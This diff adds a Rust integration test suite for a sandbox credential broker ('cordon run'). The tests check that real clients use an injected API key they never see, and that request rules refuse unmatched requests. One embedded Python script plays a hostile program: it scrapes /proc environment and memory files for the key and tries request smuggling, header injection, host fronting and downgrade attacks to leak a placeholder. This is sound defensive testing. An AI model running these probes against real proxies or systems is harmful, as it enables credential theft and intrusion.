@@ -1,0 +1,408 @@
+//! The credential broker through `cordon run`: real clients call an HTTPS
+//! server on 127.0.0.1 (a test CA of its own, given with --upstream-ca)
+//! with a key injected as a header, and never hold it; a hostile program
+//! looks for the value and tries to send the placeholder where it is not
+//! bound; request rules allow one request and refuse its neighbours. As
+//! root and as uid 65534; the server and the host judge.
+
+use std::process::Command;
+
+use crate::common::http::{git_repo, HostServer};
+use crate::common::https::HttpsServer;
+use crate::common::{as_each_uid, run, text};
+
+/// The key: long and distinctive, so finding it anywhere is a finding.
+const KEY: &str = "sk-test-7d1f0c6a94e2b8355aa0c0ffee1234567890";
+
+/// A world-readable temp dir (uid 65534 reads the CA in it).
+fn readable_dir() -> tempfile::TempDir {
+    use std::os::unix::fs::PermissionsExt;
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
+    dir
+}
+
+/// `cordon run` with the key as secret K bound to the server as a bearer
+/// header, its source cordon's own environment.
+fn brokered(cmd: &mut Command, server: &HttpsServer) -> Vec<String> {
+    let host = format!("localhost:{}", server.port);
+    cmd.env("CORDON_TEST_KEY", KEY);
+    vec![
+        "run".into(),
+        "--secret".into(),
+        "K=env:CORDON_TEST_KEY".into(),
+        "--secret-host".into(),
+        format!("K={host}"),
+        "--secret-header".into(),
+        "K=Authorization: Bearer {}".into(),
+        "--upstream-ca".into(),
+        server.ca.display().to_string(),
+        "--explain".into(),
+    ]
+}
+
+/// Node 20 has no proxy support in `fetch` (Node 22.21 and 24 read the
+/// proxy variables with NODE_USE_ENV_PROXY=1, which cordon sets): its
+/// `https` module through a CONNECT of its own, trusting the run's CA
+/// from NODE_EXTRA_CA_CERTS as any Node client does.
+const NODE_GET: &str = r#"
+const http = require('http'), https = require('https'), tls = require('tls');
+const [host, port] = [process.argv[1], +process.argv[2]];
+const p = new URL(process.env.https_proxy);
+http.request({host: p.hostname, port: p.port, method: 'CONNECT', path: `${host}:${port}`})
+  .on('connect', (res, socket) => {
+    const s = tls.connect({socket, servername: host});
+    https.get({host, port, path: '/echo', createConnection: () => s}, r => {
+      let b = ''; r.on('data', d => b += d); r.on('end', () => process.stdout.write(b));
+    }).on('error', e => { console.error(e); process.exit(3); });
+  }).on('error', e => { console.error(e); process.exit(2); }).end();
+"#;
+
+#[test]
+fn real_clients_call_an_api_with_a_key_they_never_hold() {
+    let dir = readable_dir();
+    let root = dir.path().join("www");
+    std::fs::create_dir_all(&root).unwrap();
+    git_repo(&root);
+    let server = HttpsServer::start(root, dir.path(), KEY);
+    let url = format!("https://localhost:{}", server.port);
+    as_each_uid(dir.path(), |who, cmd| {
+        let mut placeholders = Vec::new();
+        let clients: [(&str, Vec<String>); 4] = [
+            ("curl", vec!["/usr/bin/curl".into(), "-sS".into(), format!("{url}/echo")]),
+            (
+                "python",
+                vec![
+                    "/usr/bin/python3".into(),
+                    "-c".into(),
+                    format!(
+                        "import urllib.request\nprint(urllib.request.urlopen('{url}/echo').read().decode(), end='')"
+                    ),
+                ],
+            ),
+            (
+                "node",
+                vec![
+                    "/usr/bin/node".into(),
+                    "-e".into(),
+                    NODE_GET.into(),
+                    "localhost".into(),
+                    server.port.to_string(),
+                ],
+            ),
+            (
+                "git",
+                vec![
+                    "/bin/sh".into(),
+                    "-c".into(),
+                    format!("/usr/bin/git clone -q {url}/repo.git out && cat out/file.txt && echo \"K=$K\""),
+                ],
+            ),
+        ];
+        for (client, argv) in clients {
+            let mut c = cmd();
+            let mut args = brokered(&mut c, &server);
+            args.push("--".into());
+            args.extend(argv);
+            let out = run(c.args(&args));
+            let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
+            assert!(out.status.success(), "{who} {client}: {stdout}\n{stderr}");
+            assert!(
+                !stdout.contains(KEY) && !stderr.contains(KEY),
+                "{who} {client}: the key reached the program or cordon's output"
+            );
+            if client == "git" {
+                assert!(
+                    stdout.starts_with("cloned through the proxy\n"),
+                    "{who} git: {stdout}\n{stderr}"
+                );
+            } else {
+                // The echo: what the server got, scrubbed on its way back.
+                assert!(
+                    stdout.starts_with("GET /echo HTTP/1.1"),
+                    "{who} {client}: {stdout}\n{stderr}"
+                );
+            }
+            let placeholder = stdout
+                .split(|c: char| c.is_whitespace())
+                .find(|w| w.contains("cordon-placeholder-K-"))
+                .unwrap_or_else(|| panic!("{who} {client}: no placeholder came back: {stdout}"))
+                .trim_start_matches("K=")
+                .to_owned();
+            placeholders.push(placeholder);
+        }
+        // One run, one placeholder: each run draws its own.
+        placeholders.sort();
+        placeholders.dedup();
+        assert_eq!(placeholders.len(), 4, "{who}: {placeholders:?}");
+    });
+    let seen = server.seen();
+    for agent in ["curl/", "Python-urllib/", "git/"] {
+        assert!(
+            seen.lines()
+                .any(|l| l.starts_with("User-Agent: ") && l.contains(agent)),
+            "the server never heard from {agent}: {seen}"
+        );
+    }
+    assert!(
+        !seen.contains("cordon-placeholder"),
+        "a placeholder reached the server: {seen}"
+    );
+    assert!(seen.contains(&format!("Bearer {KEY}")), "{seen}");
+}
+
+/// What a hostile program tries, in Python inside the sandbox: it prints
+/// every place it read (for the host to search for the value) and, per
+/// attempt, the proxy's or server's status line or the error.
+const HOSTILE: &str = r#"
+import os, socket, ssl, sys, glob, json
+port, plain_port, ph = int(sys.argv[1]), int(sys.argv[2]), os.environ["K"]
+dump = []
+dump.append(repr(dict(os.environ)))
+for p in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/maps"):
+    try: dump.append(open(p, "rb").read().decode("latin-1"))
+    except Exception as e: dump.append(f"{p}: {e}")
+for p in glob.glob("/proc/*/mem"):
+    try:
+        f = open(p, "rb"); dump.append(f"{p}: opened")
+    except Exception as e: dump.append(f"{p}: {e}")
+for f in [os.environ[v] for v in ("SSL_CERT_FILE", "NODE_EXTRA_CA_CERTS")]:
+    dump.append(open(f).read())
+ctx = ssl.create_default_context()
+def tunnel(target):
+    s = socket.create_connection(("127.0.0.1", 3128))
+    s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
+    line = first_line(s)
+    if " 200 " not in line: raise Exception(line)
+    return s
+def tls(name="localhost"):
+    return ctx.wrap_socket(tunnel(f"localhost:{port}"), server_hostname=name)
+def first_line(s):
+    data = b""
+    while b"\r\n" not in data:
+        d = s.recv(4096)
+        if not d: break
+        data += d
+    return data.decode("latin-1").split("\r\n")[0]
+def ask(raw, name="localhost"):
+    s = tls(name); s.sendall(raw); return first_line(s)
+h = f"Host: localhost:{port}\r\n"
+out = {}
+def attempt(k, f):
+    try: out[k] = f()
+    except Exception as e: out[k] = "error: " + str(e)[:200]
+attempt("control", lambda: ask(f"GET /echo HTTP/1.1\r\n{h}\r\n".encode()))
+attempt("in_url", lambda: ask(f"GET /echo?k={ph} HTTP/1.1\r\n{h}\r\n".encode()))
+attempt("in_body", lambda: ask(f"POST /echo HTTP/1.1\r\n{h}Content-Length: {len(ph)}\r\n\r\n{ph}".encode()))
+attempt("in_chunked_body", lambda: ask(f"POST /echo HTTP/1.1\r\n{h}Transfer-Encoding: chunked\r\n\r\n{len(ph):x}\r\n{ph}\r\n0\r\n\r\n".encode()))
+attempt("in_other_header", lambda: ask(f"GET /echo HTTP/1.1\r\n{h}X-Key: {ph}\r\n\r\n".encode()))
+attempt("in_host", lambda: ask(f"GET /echo HTTP/1.1\r\nHost: {ph}\r\n\r\n".encode()))
+attempt("fronted_host", lambda: ask(f"GET /echo HTTP/1.1\r\nHost: other.example\r\n\r\n".encode()))
+attempt("absolute_url", lambda: ask(f"GET https://other.example/echo HTTP/1.1\r\n{h}\r\n".encode()))
+attempt("smuggled", lambda: ask(f"POST /echo HTTP/1.1\r\n{h}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".encode()))
+attempt("pipelined", lambda: ask(f"GET /echo HTTP/1.1\r\n{h}\r\nGET /echo?second HTTP/1.1\r\n{h}\r\n".encode()))
+attempt("injected", lambda: ask(f"GET /echo HTTP/1.1\r\n{h}X-A: a\rX-Key: {ph}\r\n\r\n".encode()))
+attempt("oversized", lambda: ask(f"GET /echo HTTP/1.1\r\n{h}X-Big: {'a' * 70000}\r\n\r\n".encode()))
+attempt("h2_preface", lambda: ask(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"))
+attempt("wrong_sni", lambda: ask(f"GET /echo HTTP/1.1\r\n{h}\r\n".encode(), name="other.example"))
+attempt("by_ip", lambda: tunnel(f"127.0.0.1:{port}") and "tunnel open")
+attempt("plain_http_unbound", lambda: (lambda s: (s.sendall(f"GET http://127.0.0.1:{plain_port}/ HTTP/1.1\r\nHost: 127.0.0.1:{plain_port}\r\nX-Key: {ph}\r\n\r\n".encode()), first_line(s))[1])(socket.create_connection(("127.0.0.1", 3128))))
+attempt("plain_http_downgrade", lambda: (lambda s: (s.sendall(f"GET http://localhost:{port}/echo HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n".encode()), first_line(s))[1])(socket.create_connection(("127.0.0.1", 3128))))
+print(json.dumps(out))
+print("\n".join(dump))
+"#;
+
+#[test]
+fn a_hostile_program_finds_no_value_and_cannot_send_the_placeholder_elsewhere() {
+    let dir = readable_dir();
+    let server = HttpsServer::start(dir.path().join("www"), dir.path(), KEY);
+    let plain = HostServer::start(dir.path().to_path_buf());
+    as_each_uid(dir.path(), |who, cmd| {
+        let mut c = cmd();
+        let mut args = brokered(&mut c, &server);
+        // The unbound host by its address: a name of its own (not the
+        // bound localhost, whose plain HTTP is refused as a downgrade).
+        args.extend([
+            "--allow-host".into(),
+            format!("http://127.0.0.1:{}", plain.port),
+        ]);
+        // Plain HTTP to the bound host, allowed by the list: the broker
+        // still refuses it (a downgrade would carry no TLS to terminate).
+        args.extend([
+            "--allow-host".into(),
+            format!("http://localhost:{}", server.port),
+        ]);
+        args.extend([
+            "--".into(),
+            "/usr/bin/python3".into(),
+            "-c".into(),
+            HOSTILE.into(),
+        ]);
+        args.push(server.port.to_string());
+        args.push(plain.port.to_string());
+        let out = run(c.args(&args));
+        let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
+        assert!(out.status.success(), "{who}: {stdout}\n{stderr}");
+        assert!(
+            !stdout.contains(KEY) && !stderr.contains(KEY),
+            "{who}: the program found the value, or cordon printed it"
+        );
+        let outcomes: serde_json::Value =
+            serde_json::from_str(stdout.lines().next().unwrap()).unwrap();
+        let got = |k: &str| outcomes[k].as_str().unwrap_or_default().to_owned();
+        assert!(got("control").contains(" 200 "), "{who}: {outcomes}");
+        for refused in [
+            "in_url",
+            "in_body",
+            "in_chunked_body",
+            "in_other_header",
+            "in_host",
+            "fronted_host",
+            "absolute_url",
+            "smuggled",
+            "pipelined",
+            "injected",
+            "h2_preface",
+            "plain_http_unbound",
+            "plain_http_downgrade",
+        ] {
+            let o = got(refused);
+            assert!(
+                o.contains(" 403 ") || o.contains(" 400 "),
+                "{who}: {refused} must be refused by the proxy: {o}"
+            );
+        }
+        assert!(got("wrong_sni").starts_with("error: "), "{who}: {outcomes}");
+        // By IP: not on the list (a secret is bound to names only).
+        assert!(got("by_ip").contains(" 403 "), "{who}: {outcomes}");
+        // Refused at 64 KiB: the 403, or a reset if the program was
+        // still sending (the explain line below says which).
+        let o = got("oversized");
+        assert!(
+            o.contains(" 403 ") || o.contains("reset") || o.contains("Broken pipe"),
+            "{who}: {o}"
+        );
+        // Every refusal is explained on stderr.
+        for reason in [
+            "placeholder is in the request line",
+            "placeholder ",
+            "is not localhost",
+            "only a path",
+            "ambiguous",
+            "pipelining",
+            "does not parse",
+            "65536",
+            "TLS handshake with the broker failed",
+            "placeholder was sent to 127.0.0.1",
+            "which goes over HTTPS only",
+            "127.0.0.1",
+        ] {
+            assert!(
+                stderr.contains(reason),
+                "{who}: no explain line with {reason:?}: {stderr}"
+            );
+        }
+    });
+    // Nothing refused reached a server: the control and nothing else.
+    let seen = server.seen();
+    assert!(!seen.contains("cordon-placeholder"), "{seen}");
+    assert!(
+        !seen.contains("second"),
+        "a pipelined request reached the server: {seen}"
+    );
+    assert!(!seen.contains("other.example"), "{seen}");
+    assert!(
+        plain.requests().is_empty(),
+        "a plain-HTTP request with the placeholder reached the server: {:?}",
+        plain.requests()
+    );
+}
+
+#[test]
+fn a_missing_secret_source_refuses_the_run() {
+    let dir = readable_dir();
+    let outside = dir.path().join("outside-key");
+    let granted = dir.path().join("granted");
+    std::fs::create_dir_all(&granted).unwrap();
+    std::fs::write(granted.join("key"), KEY).unwrap();
+    let cache = crate::common::shared_cache();
+    for (source, extra, says) in [
+        (
+            "env:CORDON_TEST_NO_SUCH_VAR",
+            None,
+            "env:CORDON_TEST_NO_SUCH_VAR is not set",
+        ),
+        (
+            &*format!("file:{}", outside.display()),
+            None,
+            "cannot be read",
+        ),
+        (
+            &*format!("file:{}", granted.join("key").display()),
+            Some(granted.display().to_string()),
+            "which the sandbox may read",
+        ),
+    ] {
+        let mut c = crate::common::cordon(cache.path());
+        c.args([
+            "run",
+            "--secret",
+            &format!("K={source}"),
+            "--secret-host",
+            "K=api.example.com",
+        ]);
+        if let Some(g) = &extra {
+            c.args(["--ro", g]);
+        }
+        let marker = dir.path().join("ran");
+        c.args(["--", "/usr/bin/touch"]).arg(&marker);
+        let out = run(&mut c);
+        assert_eq!(
+            out.status.code(),
+            Some(125),
+            "{source}: {}",
+            text(&out.stderr)
+        );
+        let stderr = text(&out.stderr);
+        assert!(
+            stderr.contains("secret K") && stderr.contains(says),
+            "{source}: {stderr}"
+        );
+        assert!(!stderr.contains(KEY), "{stderr}");
+        assert!(!marker.exists(), "{source}: the program ran");
+    }
+}
+
+#[test]
+fn request_rules_allow_one_request_and_explain_the_others() {
+    let dir = readable_dir();
+    let server = HttpsServer::start(dir.path().join("www"), dir.path(), KEY);
+    let host = format!("localhost:{}", server.port);
+    let url = format!("https://{host}");
+    as_each_uid(dir.path(), |who, cmd| {
+        let mut c = cmd();
+        let mut args = brokered(&mut c, &server);
+        args.extend(["--rule".into(), format!("GET https://{host}/allowed/*")]);
+        args.extend(["--".into(), "/bin/sh".into(), "-c".into()]);
+        args.push(format!(
+            "curl -s -o /dev/null -w '%{{http_code}} ' {url}/allowed/x; \
+             curl -s -o /dev/null -w '%{{http_code}} ' -X POST {url}/allowed/x; \
+             curl -s -o /dev/null -w '%{{http_code}} ' {url}/other; \
+             curl -s -o /dev/null -w '%{{http_code}}' --path-as-is {url}/allowed/../other"
+        ));
+        let out = run(c.args(&args));
+        let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
+        assert_eq!(stdout, "200 403 403 403", "{who}: {stderr}");
+        assert!(
+            stderr.contains(&format!("--rule 'POST https://{host}/allowed/x'")),
+            "{who}: the explain line names the rule that would allow it: {stderr}"
+        );
+        assert!(
+            stderr.contains("no request rule allows GET /other"),
+            "{who}: {stderr}"
+        );
+    });
+    let seen = server.seen();
+    assert!(seen.contains("GET /allowed/x"), "{seen}");
+    assert!(!seen.contains("POST") && !seen.contains("/other"), "{seen}");
+}
